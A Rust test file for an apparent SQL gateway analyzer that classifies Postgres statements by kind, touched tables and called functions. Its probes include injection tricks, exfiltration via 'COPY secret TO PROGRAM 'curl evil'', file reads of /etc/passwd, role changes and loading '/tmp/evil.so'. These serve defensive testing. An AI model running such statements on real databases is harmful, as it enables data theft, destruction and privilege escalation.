//! Statements that are easily taken for something else, each classed as the server behaves: which
//! kinds it is, what it touches, what it calls. They run as a table, since each is one line of the
//! attacks that a gateway has to stand.

use super::*;

/// `kinds | touches | calls`, as short as they can be read.
fn told(text: &str) -> String {
    let analysis = analyze(Dialect::Postgres, text);
    if analysis.sureness != Sureness::Complete {
        return "opaque".to_owned();
    }
    let parts: Vec<String> = analysis.statements.iter().map(one).collect();
    parts.join(" ; ")
}

fn one(facts: &StatementFacts) -> String {
    let kinds: Vec<String> = facts
        .kinds
        .iter()
        .map(|kind| {
            serde_json::to_value(kind)
                .unwrap()
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let name = |name: &RelationName| match &name.schema {
        Some(schema) => format!("{schema}.{}", name.name),
        None => name.name.clone(),
    };
    let mut touches: Vec<String> = facts
        .relations
        .iter()
        .map(|used| format!("{:?} {}", used.touch, name(&used.relation)).to_lowercase())
        .collect();
    touches.sort();
    let mut calls: Vec<String> = facts
        .functions
        .iter()
        .map(|f| {
            let call = RelationName {
                schema: f.schema.clone(),
                name: f.name.clone(),
            };
            let class = match classify_function(f.schema.as_deref(), &f.name, f.args) {
                FunctionClass::Pure => "",
                FunctionClass::Unknown => "?",
                FunctionClass::Refused(_) => "!",
            };
            format!("{}/{}{class}", name(&call), f.args)
        })
        .collect();
    calls.extend(facts.types.iter().map(|of| format!("::{}", name(of))));
    if facts.missing_where {
        calls.push("no where".to_owned());
    }
    let told = format!(
        "{} | {} | {}",
        kinds.join(" "),
        touches.join(", "),
        calls.join(" ")
    );
    told.replace("|  |", "| |")
        .trim_end_matches([' ', '|'])
        .to_owned()
}

#[test]
fn each_probe_is_classed_as_the_server_behaves() {
    let table: &[(&str, &str)] = &[
        (
            "SELECT json_value(a, '$' RETURNING app.evil) FROM t",
            "select | read t | ::app.evil",
        ),
        (
            "SELECT x.a FROM jsonb_to_recordset($1) AS x(a app.evil)",
            "select | | jsonb_to_recordset/1 ::app.evil",
        ),
        (
            "SELECT * FROM json_table($1, '$' COLUMNS (a app.evil PATH '$'))",
            "select | | ::app.evil",
        ),
        (
            "SELECT * FROM xmltable('/a' PASSING $1 COLUMNS a app.evil)",
            "select | | ::app.evil",
        ),
        // ONLY, TABLE, several statements, empty ones.
        ("SELECT * FROM ONLY (secret)", "select | read secret"),
        (
            "UPDATE ONLY secret SET a = 1 WHERE b = 1",
            "update | update secret",
        ),
        ("TABLE secret", "select | read secret"),
        (
            "SELECT 1 UNION ALL TABLE secret; DROP TABLE x",
            "select | read secret ; drop | define x",
        ),
        (
            "COPY t FROM STDIN; DROP TABLE x; SELECT 1",
            "copy_in | insert t ; drop | define x ; select",
        ),
        ("; ;-- nothing\n; DROP TABLE x;", "drop | define x"),
        (
            "/* a /* b */ DROP TABLE y; */ DROP TABLE x",
            "drop | define x",
        ),
        ("SELECT 1 -- x\rDROP TABLE x", "opaque"),
        // Quoting.
        ("SELECT $a$ ; DROP TABLE x; $a$ FROM t", "select | read t"),
        (
            "SELECT $a$ ; $b$ $a$; DROP TABLE x --$a$",
            "select ; drop | define x",
        ),
        ("SELECT 'a\\'; DROP TABLE x --'", "select ; drop | define x"),
        ("SELECT E'a\\'; DROP TABLE x --'", "select"),
        ("SELECT E'\\x27; DROP TABLE x --'", "select"),
        ("SELECT 'a' -- b\n'; DROP TABLE x'", "select"),
        ("SELECT * FROM U&\"s\\0065cret\"", "select | read secret"),
        (
            "SELECT * FROM U&\"s!0065cret\" UESCAPE '!'",
            "select | read secret",
        ),
        ("DROP TABLE \"a\"\"; b\"", "drop | define a\"; b"),
        (
            "SELECT * FROM SECRET s, \"SECRET\"",
            "select | read secret, read secret",
        ),
        (
            "SELECT * FROM db.public.secret",
            "select | read public.secret",
        ),
        ("SELECT * FROM t\u{a0}x", "select | read t\u{a0}x"),
        ("DROP\tTABLE\u{c}x", "drop | define x"),
        // Scopes.
        (
            "WITH secret AS (SELECT 1) SELECT * FROM public.secret",
            "select | read public.secret",
        ),
        (
            "WITH a AS (WITH b AS (SELECT 1) SELECT * FROM b) SELECT * FROM a, b",
            "select | read b",
        ),
        (
            "SELECT (WITH s AS (SELECT 1) SELECT 1 FROM s) FROM s",
            "select | read s",
        ),
        (
            "WITH a AS (UPDATE t SET x = 1 RETURNING *) INSERT INTO u SELECT * FROM a",
            "insert update select | insert u, read t, update t | no where",
        ),
        (
            "WITH RECURSIVE a AS (SELECT 1 UNION SELECT * FROM a, secret) SELECT * FROM a",
            "select | read secret",
        ),
        // Where code hides in a read.
        (
            "SELECT f FROM pg_read_file('/etc/passwd') f",
            "select | | pg_read_file/1!",
        ),
        (
            "SELECT 1 FROM t, LATERAL pg_read_file(t.a) f",
            "select | read t | pg_read_file/1!",
        ),
        (
            "SELECT * FROM ROWS FROM (a(1), lo_get(2)) x",
            "select | | a/1? lo_get/1!",
        ),
        (
            "SELECT pg_catalog.PG_SLEEP(1)",
            "select | | pg_catalog.pg_sleep/1!",
        ),
        ("SELECT \"pg_sleep\" (1)", "select | | pg_sleep/1!"),
        (
            "SELECT (SELECT dblink_exec('x', 'y')) FROM t",
            "select | read t | dblink_exec/2!",
        ),
        ("SELECT ext.dblink('x')", "select | | ext.dblink/1!"),
        (
            "SELECT query_to_xml('select 1', true, false, '')",
            "select | | query_to_xml/4!",
        ),
        (
            "SELECT table_to_xml('secret', true, false, '')",
            "select | | table_to_xml/4!",
        ),
        (
            "SELECT cursor_to_xml('c', 1, true, false, '')",
            "select | | cursor_to_xml/5!",
        ),
        ("SELECT * FROM ts_stat('select 1')", "select | | ts_stat/1!"),
        (
            "SELECT ts_rewrite('a', 'select 1')",
            "select | | ts_rewrite/2!",
        ),
        (
            "SELECT ts_rewrite('a', 'b', 'c')",
            "select | | ts_rewrite/3",
        ),
        (
            "SELECT * FROM crosstab('select 1') AS x(a int)",
            "select | | crosstab/1!",
        ),
        (
            "SELECT lo_import('/etc/passwd'), lo_export(1, '/x')",
            "select | | lo_import/1! lo_export/2!",
        ),
        (
            "SELECT lo_from_bytea(0, 'x'), lo_put(1, 0, 'x')",
            "select | | lo_from_bytea/2! lo_put/3!",
        ),
        (
            "SELECT pg_terminate_backend(1), pg_cancel_backend(2)",
            "select | | pg_terminate_backend/1! pg_cancel_backend/1!",
        ),
        (
            "SELECT pg_reload_conf(), pg_export_snapshot()",
            "select | | pg_reload_conf/0! pg_export_snapshot/0!",
        ),
        (
            "SELECT nextval('s'), setval('s', 1)",
            "select | | nextval/1? setval/2?",
        ),
        (
            "SELECT pg_advisory_lock(1), pg_notify('a', 'b')",
            "select | | pg_advisory_lock/1! pg_notify/2!",
        ),
        (
            "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
            "select | | pg_logical_slot_get_changes/3!",
        ),
        (
            "SELECT pg_create_physical_replication_slot('s')",
            "select | | pg_create_physical_replication_slot/1!",
        ),
        (
            "SELECT pg_logical_emit_message(true, 'a', 'b')",
            "select | | pg_logical_emit_message/3!",
        ),
        ("SELECT get_raw_page('t', 0)", "select | | get_raw_page/2!"),
        (
            "SELECT * FROM pg_stat_file('x'), pg_ls_dir('.')",
            "select | | pg_stat_file/1! pg_ls_dir/1!",
        ),
        (
            "SELECT xpath_table('a', 'b', 'c', 'd', 'e')",
            "select | | xpath_table/5!",
        ),
        (
            "SELECT connectby('a', 'b', 'c', 'd', 1)",
            "select | | connectby/5!",
        ),
        (
            "SELECT a OPERATOR(evil.+) b FROM t",
            "select | read t | evil.+/2?",
        ),
        (
            "SELECT 1 FROM t ORDER BY a USING OPERATOR(evil.<)",
            "select | read t | evil.</2?",
        ),
        (
            "SELECT 1 = ANY (SELECT 1) OR 1 OPERATOR(evil.=) ANY (SELECT 2)",
            "select | | evil.=/2?",
        ),
        (
            "SELECT a::app.evil, CAST(b AS evil), c::int, d::text[], e::_evil[] FROM t",
            "select | read t | ::app.evil ::evil ::_evil",
        ),
        (
            "SELECT app.evil '1', pg_catalog.int4 '2'",
            "select | | ::app.evil",
        ),
        (
            "CREATE TABLE t (a evil, b serial, c \"char\")",
            "create | define t | ::evil",
        ),
        (
            "SELECT max(x), app.max(x), max(x, y) FROM t",
            "select | read t | max/1 app.max/1? max/2?",
        ),
        (
            "SELECT t.evil, evil(t), (t).evil FROM t",
            "select | read t | evil/1?",
        ),
        // A function of one argument can be written as a column of its argument.
        (
            "SELECT ('/etc/passwd'::text).pg_read_file",
            "select | | pg_read_file/1!",
        ),
        (
            "SELECT (SELECT 'a').pg_read_file",
            "select | | pg_read_file/1!",
        ),
        (
            "SELECT ($1).pg_sleep, (ARRAY[1])[1].app_f",
            "select | | pg_sleep/1! app_f/1?",
        ),
        ("SELECT ('a'::text).upper", "select | | upper/1"),
        (
            "SELECT f.pg_sleep FROM generate_series(1, 2) f",
            "select | | generate_series/2 pg_sleep/1!",
        ),
        (
            "SELECT f.app_f FROM unnest($1) f",
            "select | | unnest/1 app_f/1?",
        ),
        (
            "SELECT o.total, o.pg_sleep FROM app.orders_of(1) o",
            "select | | app.orders_of/1? pg_sleep/1!",
        ),
        (
            "SELECT g.g, u.a, u.b, unnest.unnest FROM generate_series(1, 2) g, unnest($1) WITH ORDINALITY u(a, b), unnest($2)",
            "select | | generate_series/2 unnest/1",
        ),
        (
            "SELECT j.key, j.value FROM jsonb_each($1) j",
            "select | | jsonb_each/1",
        ),
        (
            "SELECT x.a FROM jsonb_to_recordset($1) AS x(a int)",
            "select | | jsonb_to_recordset/1",
        ),
        (
            "SELECT x.a FROM jsonb_populate_recordset(NULL::app.t, $1) x",
            "select | | jsonb_populate_recordset/2 ::app.t",
        ),
        (
            "SELECT (jsonb_each(a)).key, (information_schema._pg_expandarray(b)).n FROM t",
            "select | read t | jsonb_each/1 information_schema._pg_expandarray/1",
        ),
        ("SELECT (address).city FROM t", "select | read t | city/1?"),
        // Several arrays in FROM are as many calls of the server's own.
        (
            "SELECT * FROM unnest(a(), $1, $2)",
            "select | | a/0? pg_catalog.unnest/1",
        ),
        (
            "SELECT * FROM evil.unnest($1, $2), unnest($1, VARIADIC $2)",
            "select | | evil.unnest/2? unnest/2?",
        ),
        ("SELECT unnest($1, $2)", "select | | unnest/2?"),
        (
            "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL",
            "select | | pg_advisory_unlock_all/0 ; close_cursor ; discard ; set",
        ),
        ("SELECT f(VARIADIC ARRAY[1])", "select | | f/1?"),
        (
            "SELECT * FROM t TABLESAMPLE evil(1)",
            "select | read t | evil/1?",
        ),
        (
            "SELECT json_array(SELECT ssn FROM secret)",
            "select | read secret",
        ),
        (
            "SELECT * FROM xmltable('/a' PASSING (SELECT x FROM secret) COLUMNS b int DEFAULT app.f())",
            "select | read secret | app.f/0?",
        ),
        (
            "SELECT sum(a) OVER (ORDER BY pg_sleep(1)) FROM t",
            "select | read t | sum/1 pg_sleep/1!",
        ),
        (
            "SELECT 1 LIMIT (SELECT lo_unlink(1))",
            "select | | lo_unlink/1!",
        ),
        ("VALUES (pg_sleep(1))", "select | | pg_sleep/1!"),
        // COPY.
        (
            "COPY secret TO PROGRAM 'curl evil'",
            "copy_program | read secret",
        ),
        ("COPY t FROM PROGRAM 'curl evil'", "copy_program | insert t"),
        (
            "COPY (SELECT * FROM secret) TO '/tmp/x'",
            "copy_file select | read secret",
        ),
        (
            "COPY t (a) FROM '/etc/passwd' WITH (FORMAT csv)",
            "copy_file | insert t",
        ),
        (
            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
            "copy_out delete | delete t, read t | no where",
        ),
        ("COPY BINARY t TO STDOUT", "copy_out | read t"),
        // Writing in disguise.
        (
            "SELECT * INTO n FROM secret",
            "select create | define n, read secret",
        ),
        (
            "SELECT INTO n FROM secret",
            "select create | define n, read secret",
        ),
        ("CREATE TABLE n AS EXECUTE p", "create execute | define n"),
        (
            "EXPLAIN (ANALYZE, COSTS OFF) DELETE FROM t",
            "explain delete | delete t | no where",
        ),
        (
            "EXPLAIN (ANALYZE 'on') UPDATE t SET a = 1",
            "explain update | update t | no where",
        ),
        (
            "EXPLAIN (ANALYZE FALSE, ANALYZE) DELETE FROM t",
            "explain delete | delete t | no where",
        ),
        (
            "EXPLAIN ANALYZE CREATE TABLE n AS SELECT * FROM secret",
            "explain create select | define n, read secret",
        ),
        ("EXPLAIN ANALYZE EXECUTE p", "explain execute"),
        (
            "PREPARE p AS DELETE FROM t",
            "prepare delete | delete t | no where",
        ),
        (
            "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secret",
            "declare select | read secret",
        ),
        (
            "DELETE FROM t WHERE 1 = 1 OR true",
            "delete | delete t | no where",
        ),
        (
            "UPDATE t SET a = 1 WHERE EXISTS (SELECT 1)",
            "update select | update t | no where",
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1",
            "insert update | insert t, update t",
        ),
        (
            "MERGE INTO t USING s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "merge | delete t, read s",
        ),
        ("TRUNCATE a CASCADE", "truncate | truncate *.*, truncate a"),
        ("SELECT * FROM t FOR UPDATE", "select lock | lock t, read t"),
        (
            "LOCK TABLE ONLY t IN ACCESS EXCLUSIVE MODE",
            "lock | lock t",
        ),
        // Code that runs later, or now without being seen.
        (
            "DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
            "do",
        ),
        (
            "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1 FROM secret; END",
            "create define_code select | read secret",
        ),
        (
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DROP TABLE x'",
            "create define_code",
        ),
        (
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM secret",
            "create define_code select | define t, read secret",
        ),
        (
            "CREATE TRIGGER g BEFORE INSERT ON t EXECUTE FUNCTION app.f()",
            "create define_code | define t | app.f/0?",
        ),
        (
            "CREATE CAST (int AS text) WITH FUNCTION app.f(int)",
            "create define_code",
        ),
        (
            "CREATE OPERATOR + (FUNCTION = app.f, LEFTARG = int)",
            "create define_code",
        ),
        (
            "CREATE POLICY p ON t USING (app.f())",
            "create define_code | define t | app.f/0?",
        ),
        (
            "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION app.f()",
            "admin create",
        ),
        (
            "ALTER TABLE t ALTER a SET DEFAULT app.f()",
            "alter | define t | app.f/0?",
        ),
        (
            "ALTER TABLE t ADD CHECK (app.f(a))",
            "alter | define t | app.f/1?",
        ),
        (
            "CREATE INDEX i ON t (app.f(a)) WHERE app.g(b)",
            "create | define t | app.f/1? app.g/1?",
        ),
        // Who is asking, and how texts are read.
        ("SET LOCAL ROLE admin", "set_identity"),
        ("SET \"role\" TO admin", "set_identity"),
        ("RESET SESSION AUTHORIZATION", "set_identity"),
        (
            "SELECT pg_catalog.set_config('ROLE', 'x', true)",
            "select set_identity",
        ),
        (
            "SELECT set_config('ro' || 'le', 'x', true)",
            "select set_identity | | set_config/3!",
        ),
        (
            "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
            "update set_identity | update pg_settings",
        ),
        (
            "UPDATE pg_catalog.pg_settings SET setting = $1 WHERE name = $2",
            "update set_identity | update pg_catalog.pg_settings",
        ),
        (
            "UPDATE app.pg_settings SET a = 1 WHERE b = 2",
            "update | update app.pg_settings",
        ),
        ("SET SCHEMA 'evil'", "set"),
        ("SET standard_conforming_strings TO 'of'", "set_identity"),
        ("SET client_encoding TO sjis", "set_identity"),
        ("SET NAMES 'gbk'", "set_identity"),
        ("SET row_security = off", "set"),
        (
            "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
            "select set | read pg_settings",
        ),
        (
            "SELECT set_config(name, '', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
            "select set_identity | read pg_settings",
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'",
            "select set_identity | read pg_settings",
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR true",
            "select set_identity | read pg_settings | set_config/3!",
        ),
        (
            "SELECT (SELECT set_config(name, 'x', false) FROM t) FROM pg_settings WHERE name = 'work_mem'",
            "select set_identity | read pg_settings, read t | set_config/3!",
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'work_mem'",
            "select set_identity | read pg_settings, read t | set_config/3!",
        ),
        ("SET session_replication_role = replica", "set_identity"),
        ("ALTER ROLE x SET search_path = evil", "role"),
        ("ALTER DATABASE d SET role = x", "admin alter"),
        ("ALTER SYSTEM SET x = 1", "admin alter"),
        ("DISCARD ALL", "discard"),
        // What belongs to the server.
        ("CREATE EXTENSION dblink", "admin create"),
        ("LOAD '/tmp/evil.so'", "admin"),
        (
            "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p",
            "admin create",
        ),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
            "admin create",
        ),
        ("CREATE LANGUAGE plperlu", "admin create"),
        (
            "CREATE PUBLICATION p FOR TABLE secret",
            "admin create | define secret",
        ),
        (
            "CREATE FOREIGN TABLE f (a int) SERVER s",
            "admin create | define f",
        ),
        (
            "IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b",
            "admin create",
        ),
        (
            "SECURITY LABEL ON TABLE t IS 'x'",
            "maintain admin | define t",
        ),
        ("LISTEN x; NOTIFY x, 'secret'", "listen ; notify"),
        ("ALTER TABLE t RENAME TO u", "alter | define t"),
        (
            "ALTER TABLE a.t SET SCHEMA b",
            "alter | define a.t, define b.t",
        ),
        (
            "ALTER TABLE p ATTACH PARTITION secret DEFAULT",
            "alter | define p, define secret",
        ),
        ("DROP OWNED BY x CASCADE", "role drop"),
        ("GRANT secret_reader TO agent", "grant role"),
        ("PREPARE TRANSACTION 'x'", "two_phase"),
    ];
    let mut wrong = String::new();
    for (text, want) in table {
        let found = told(text);
        if found != *want {
            wrong.push_str(&format!("{text}\n  found  {found}\n  wanted {want}\n"));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn what_is_written_without_naming_columns_is_a_star() {
    let written = |text: &str| -> Vec<String> {
        let analysis = analyze(Dialect::Postgres, text);
        let columns = &analysis.statements[0].columns;
        let written = columns.iter().filter(|c| c.role == ColumnRole::Written);
        written.map(|c| c.name.clone()).collect()
    };
    for (text, want) in [
        ("INSERT INTO t VALUES (1)", vec!["*"]),
        ("INSERT INTO t SELECT * FROM u", vec!["*"]),
        ("INSERT INTO t (a, b) VALUES (1, 2)", vec!["a", "b"]),
        ("INSERT INTO t DEFAULT VALUES", vec![]),
        ("COPY t FROM STDIN", vec!["*"]),
        ("UPDATE t SET (a, b) = (1, 2)", vec!["a", "b"]),
        (
            "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)",
            vec!["*"],
        ),
    ] {
        assert_eq!(written(text), want, "{text}");
    }
}

#[test]
fn a_column_that_is_only_written_carries_nothing_on() {
    let analysis = analyze(
        Dialect::Postgres,
        "WITH w AS (INSERT INTO t VALUES (1) RETURNING id) SELECT x FROM w AS v(x)",
    );
    let to = |to: &str| -> Vec<&str> {
        let carries = analysis.statements[0].carries.iter().filter(|c| c.to == to);
        carries.flat_map(|c| &c.from).map(String::as_str).collect()
    };
    assert_eq!(to("w"), [] as [&str; 0]);
}
